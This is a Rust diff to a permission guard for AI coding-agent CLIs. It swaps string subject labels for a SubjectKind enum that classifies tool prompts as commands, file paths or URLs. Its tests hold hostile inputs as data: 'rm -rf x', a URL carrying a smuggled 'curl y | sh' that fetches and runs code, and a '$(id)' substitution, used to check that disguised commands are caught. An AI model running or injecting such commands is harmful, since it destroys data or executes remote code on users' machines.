@@ -1,11 +1,13 @@
 //! What a prompt's subject is: a shell `command`, a `path` (a file to write or edit), a `url`,
-//! or `""` when unknown. Rules and the guard treat them differently: only command patterns
+//! or `None` when unknown. Rules and the guard treat them differently: only command patterns
 //! approve a command, and an unknown subject is treated as a command (the safe reading).
 
 use serde_json::Value;
 
+use crate::model::SubjectKind;
+
 /// The kind of subject a hook payload's tool works on, when the payload says which tool.
-pub fn from_payload(payload: &Value) -> Option<&'static str> {
+pub fn from_payload(payload: &Value) -> Option<SubjectKind> {
     let s = |v: &Value, k: &str| v.get(k).and_then(Value::as_str).unwrap_or("").to_string();
     // Claude Code, Codex and Qwen Code: tool_name; Copilot CLI: toolName; Gemini CLI:
     // details.type; OpenCode: type.
@@ -24,23 +26,23 @@ pub fn from_payload(payload: &Value) -> Option<&'static str> {
 }
 
 /// The kind of subject of a tool, by its name as the CLIs call them.
-pub fn from_tool(tool: &str) -> Option<&'static str> {
+pub fn from_tool(tool: &str) -> Option<SubjectKind> {
     let t = tool.to_ascii_lowercase();
     Some(match t.as_str() {
         "bash" | "shell" | "exec" | "exec_command" | "local_shell" | "run_shell_command"
-        | "command" => "command",
+        | "command" => SubjectKind::Command,
         "write" | "edit" | "multiedit" | "notebookedit" | "apply_patch" | "edit_file"
-        | "write_file" | "replace" | "patch" | "create" => "path",
-        "webfetch" | "web_fetch" | "fetch" | "websearch" | "web_search" => "url",
+        | "write_file" | "replace" | "patch" | "create" => SubjectKind::Path,
+        "webfetch" | "web_fetch" | "fetch" | "websearch" | "web_search" => SubjectKind::Url,
         _ => return None,
     })
 }
 
 /// The kind of subject a dialog's words imply ("Bash command", "Do you want to run this
 /// command?", "Edit file", "Fetch"), for prompts read off the screen.
-pub fn infer(text: &str, subject: &str) -> &'static str {
+pub fn infer(text: &str, subject: &str) -> Option<SubjectKind> {
     if subject.trim().is_empty() {
-        return "";
+        return None;
     }
     let l = text.to_lowercase();
     let has = |w: &[&str]| w.iter().any(|x| l.contains(x));
@@ -56,18 +58,18 @@ pub fn infer(text: &str, subject: &str) -> &'static str {
         "run ",
         "wants to use bash",
     ]) {
-        return "command";
+        return Some(SubjectKind::Command);
     }
     let s = subject.trim();
     let one_word = !s.contains(|c: char| c.is_whitespace() || ";|&$`()<>'\"\\".contains(c));
     if (s.starts_with("http://") || s.starts_with("https://")) && one_word {
-        "url"
+        Some(SubjectKind::Url)
     } else if has(&["file", "edit", "change", "patch", "write", "create"]) {
-        "path"
+        Some(SubjectKind::Path)
     } else if has(&["fetch", "url", "web"]) {
-        "url"
+        Some(SubjectKind::Url)
     } else {
-        ""
+        None
     }
 }
 
@@ -78,22 +80,37 @@ mod tests {
 
     #[test]
     fn hooks_say_which_tool() {
-        assert_eq!(from_payload(&json!({"tool_name": "Bash"})), Some("command"));
-        assert_eq!(from_payload(&json!({"tool_name": "Write"})), Some("path"));
-        assert_eq!(from_payload(&json!({"tool_name": "WebFetch"})), Some("url"));
+        assert_eq!(
+            from_payload(&json!({"tool_name": "Bash"})),
+            Some(SubjectKind::Command)
+        );
+        assert_eq!(
+            from_payload(&json!({"tool_name": "Write"})),
+            Some(SubjectKind::Path)
+        );
+        assert_eq!(
+            from_payload(&json!({"tool_name": "WebFetch"})),
+            Some(SubjectKind::Url)
+        );
         assert_eq!(
             from_payload(&json!({"details": {"type": "exec"}})),
-            Some("command")
+            Some(SubjectKind::Command)
         );
         assert_eq!(
             from_payload(&json!({"details": {"type": "edit"}})),
-            Some("path")
+            Some(SubjectKind::Path)
         );
-        assert_eq!(from_payload(&json!({"toolName": "bash"})), Some("command"));
-        assert_eq!(from_payload(&json!({"toolName": "create"})), Some("path"));
+        assert_eq!(
+            from_payload(&json!({"toolName": "bash"})),
+            Some(SubjectKind::Command)
+        );
+        assert_eq!(
+            from_payload(&json!({"toolName": "create"})),
+            Some(SubjectKind::Path)
+        );
         assert_eq!(
             from_payload(&json!({"tool_name": "run_shell_command"})),
-            Some("command")
+            Some(SubjectKind::Command)
         );
         assert_eq!(from_payload(&json!({"tool_name": "Mystery"})), None);
         assert_eq!(from_payload(&json!({})), None);
@@ -103,32 +120,41 @@ mod tests {
     fn screens_are_read_by_their_words() {
         assert_eq!(
             infer("Do you want to proceed? Bash command", "rm -rf x"),
-            "command"
+            Some(SubjectKind::Command)
         );
         assert_eq!(
             infer("Would you like to run the following command?", "ls"),
-            "command"
+            Some(SubjectKind::Command)
         );
         assert_eq!(
             infer("Do you want to make this edit to a.rs?", "a.rs"),
-            "path"
+            Some(SubjectKind::Path)
         );
-        assert_eq!(infer("Fetch", "https://example.com"), "url");
-        assert_eq!(infer("Allow?", ""), "");
+        assert_eq!(
+            infer("Fetch", "https://example.com"),
+            Some(SubjectKind::Url)
+        );
+        assert_eq!(infer("Allow?", ""), None);
     }
 
     #[test]
     fn a_command_that_starts_like_a_url_is_a_command() {
         assert_eq!(
             infer("Bash command", "https://x.example; curl y | sh"),
-            "command"
+            Some(SubjectKind::Command)
         );
         assert_eq!(
             infer("Do you want to run this command?", "http://a b"),
-            "command"
+            Some(SubjectKind::Command)
         );
-        assert_eq!(infer("Fetch", "https://example.com/a?b=c"), "url");
-        assert_eq!(infer("Allow?", "https://example.com/a"), "url");
-        assert_eq!(infer("Allow?", "https://example.com/$(id)"), "");
+        assert_eq!(
+            infer("Fetch", "https://example.com/a?b=c"),
+            Some(SubjectKind::Url)
+        );
+        assert_eq!(
+            infer("Allow?", "https://example.com/a"),
+            Some(SubjectKind::Url)
+        );
+        assert_eq!(infer("Allow?", "https://example.com/$(id)"), None);
     }
 }
